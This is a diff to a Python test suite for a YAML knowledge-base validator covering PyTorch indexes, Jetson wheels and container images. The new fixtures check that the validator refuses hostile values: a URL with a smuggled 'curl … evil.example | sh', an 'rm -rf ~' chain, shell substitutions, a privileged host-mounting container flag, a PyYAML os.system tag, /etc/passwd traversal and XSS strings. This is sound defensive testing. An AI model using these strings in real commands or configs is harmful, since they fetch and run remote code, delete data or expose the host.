@@ -12,6 +12,7 @@ through ``mkdocs build``.
 from __future__ import annotations
 
 import functools
+import json
 import os
 import random
 import re
@@ -547,29 +548,29 @@ def _():
 def _():
     # `!!int abc` used to escape the loader as a ValueError traceback
     path = ("cuda_majors", 0, "major")
-    return apply(set_value(path, "!!int twelve")), Expect("cannot read this value as int: 'twelve'", *new_at(*path))
+    return apply(set_value(path, "!!int twelve")), Expect("explicit tags (!!int) are not allowed", *new_at(*path))
 
 
 @case("explicit-tag-bad-bool", "explicit-tag")
 def _():
     i, j = _torch_variant(lambda t, v: v.default)
     path = ("torch", i, "variants", j, "default")
-    return apply(set_value(path, "!!bool maybe")), Expect("cannot read this value as bool: 'maybe'", *new_at(*path))
+    return apply(set_value(path, "!!bool maybe")), Expect("explicit tags (!!bool) are not allowed", *new_at(*path))
 
 
 @case("explicit-tag-empty-int", "explicit-tag")
 def _():
     # `!!int` with no value raised IndexError inside PyYAML's constructor
     path = ("cuda_majors", 0, "major")
-    return apply(set_value(path, "!!int")), Expect("cannot read this value as int: ''", *new_at(*path))
+    return apply(set_value(path, "!!int")), Expect("explicit tags (!!int) are not allowed", *new_at(*path))
 
 
 @case("python-object-tag", "explicit-tag")
 def _():
     path = ("gpus", 0, "name")
-    # the tag is ignored (never constructed): the value is only a list where a name should be
+    # never constructed: refused as a tag
     return (apply(set_value(path, '!!python/object/apply:os.system ["touch pwned"]')),
-            Expect("name: Input should be a valid string", *new_at(*path), row_id("gpus", 0)))
+            Expect("explicit tags (!!python/object/apply:os.system) are not allowed", *new_at(*path), row_id("gpus", 0)))
 
 
 @case("unknown-section")
@@ -673,6 +674,107 @@ def _():
 def _():
     path = ("gpus", 0, "aliases")
     return apply(set_value(path, "[" * 30 + "]" * 30)), Expect("nested deeper than", new_at(*path)[0], None, "-")
+
+
+# --- hostile values: what reaches a shell, a terminal, a table or a link -------------------------
+
+INJECTIONS = ["https://download.pytorch.org/whl/cu116;curl${IFS}-s${IFS}https://evil.example/x|sh;#",
+              "https://download.pytorch.org/whl/cu116 && rm -rf ~", "https://download.pytorch.org/whl/cu116`id`",
+              "https://evil.example/whl/cu116", "http://download.pytorch.org/whl/cu116",
+              "https://download.pytorch.org.evil.example/whl/cu116", "https://download.pytorch.org/whl/cu116/../x",
+              "https://download.pytorch.org/whl/cu116%0a", "https://download.pytorch.org/whl/$(id)"]
+
+
+for _n, _url in enumerate(INJECTIONS):
+    @case(f"index-injection-{_n}", "command-injection")
+    def _(url=_url):
+        i, j = _torch_variant(lambda t, v: v.index != "pypi")
+        path = ("torch", i, "variants", j, "index")
+        v = real_kb().data.torch[i].variants[j]
+        return (apply(set_value(path, yaml.dump(url, default_style='"').strip())),
+                Expect("index: must be pypi or one of PyTorch's indexes", *new_at(*path),
+                       f"{row_id('torch', i)}+{v.variant}"))
+
+
+@case("jetson-wheel-injection", "command-injection")
+def _():
+    i = next(i for i, b in enumerate(real_kb().data.jetson_builds) if b.wheel)
+    path = ("jetson_builds", i, "wheel")
+    bad = "https://developer.download.nvidia.com/compute/redist/jp/v51/pytorch/torch-1.whl;sh"
+    return apply(set_value(path, f'"{bad}"')), Expect("must be NVIDIA's Jetson wheel address", *new_at(*path),
+                                                      row_id("jetson_builds", i))
+
+
+@case("jetson-container-injection", "command-injection")
+def _():
+    i = next(i for i, b in enumerate(real_kb().data.jetson_builds) if b.container)
+    path = ("jetson_builds", i, "container")
+    return (apply(set_value(path, '"nvcr.io/nvidia/pytorch:31.01 --privileged -v /:/host"')),
+            Expect("must be an NGC container", *new_at(*path), row_id("jetson_builds", i)))
+
+
+@case("image-id-not-its-tag", "command-injection")
+def _():
+    path = ("images", 0, "id")
+    return (apply(set_value(path, '"pytorch/pytorch:latest"')),
+            Expect("the id must be pytorch/pytorch:", *new_at(*path), "pytorch/pytorch:latest"))
+
+
+@case("image-id-other-repository", "command-injection")
+def _():
+    path = ("images", 0, "id")
+    return apply(set_value(path, '"evil/pytorch:9.1.0-cuda12.1-cudnn9-runtime"')), Expect(
+        "must be pytorch/pytorch:<tag>", *new_at(*path), None)
+
+
+@pytest.mark.parametrize("src", ['https://example.invalid/a"onmouseover="x', "https://example.invalid/<script>",
+                                 "https://user@evil.example/x", "javascript:alert(1)", "https:/x",
+                                 "owner/repo:../../etc/passwd", "evidence:data/evidence/../../../etc/passwd.json",
+                                 "https://exa mple.invalid/"])
+def test_hostile_sources_are_refused(src, workdir: Path, capsys):
+    i = middle("gpus")
+    path = ("gpus", i, "sources", 0)
+    f = workdir / "data" / "hostile-source.yaml"
+    f.write_text(apply(set_value(path, json.dumps(src))), encoding="utf-8")
+    assert cli.main(["check", str(f)]) == 2
+    assert_reported(capsys.readouterr().err, Expect("a source must be", *new_at(*path), row_id("gpus", i)), src)
+
+
+for _n, (_text, _msg) in enumerate([("\\e[31mred\\e[0m", "control character U+001B"),
+                                    ("two\\rlines", "control character U+000D"),
+                                    ("bidi \\u202Eoverride", "control character U+202E"),
+                                    ("bell\\a", "control character U+0007")]):
+    @case(f"control-character-in-a-name-{_n}", "control-character")
+    def _(text=_text, msg=_msg):
+        i = middle("gpus")
+        path = ("gpus", i, "name")
+        return apply(set_value(path, f'"{text}"')), Expect(msg, *new_at(*path), row_id("gpus", i))
+
+
+for _n, (_value, _msg) in enumerate([("no", "as a boolean"), ("Off", "as a boolean"), ("12:30", "sexagesimal"),
+                                     ("012", "octal"), ("0x1F", "hex"), (".nan", "special or exponent"),
+                                     ("1" * 5000 + ":1", "sexagesimal"), ("9" * 30, "a number it is not")]):
+    @case(f"yaml11-trap-{_n}", "yaml11-trap")
+    def _(value=_value, msg=_msg):
+        i = middle("gpus")
+        path = ("gpus", i, "name")
+        return apply(set_value(path, value)), Expect(msg, *new_at(*path), row_id("gpus", i))
+
+
+@case("tag-on-a-sequence", "explicit-tag")
+def _():
+    i = middle("gpus")
+    path = ("gpus", i, "aliases")
+    return (apply(set_value(path, '!!python/tuple ["x"]')),
+            Expect("explicit tags (!!python/tuple) are not allowed", *new_at(*path), row_id("gpus", i)))
+
+
+@case("tag-set-on-a-mapping", "explicit-tag")
+def _():
+    i = middle("gpus")
+    path = ("gpus", i, "aliases")
+    return (apply(set_value(path, "!!set {a: null}")),
+            Expect("explicit tags (!!set) are not allowed", *new_at(*path), row_id("gpus", i)))
 
 
 BILLION_LAUGHS = """\
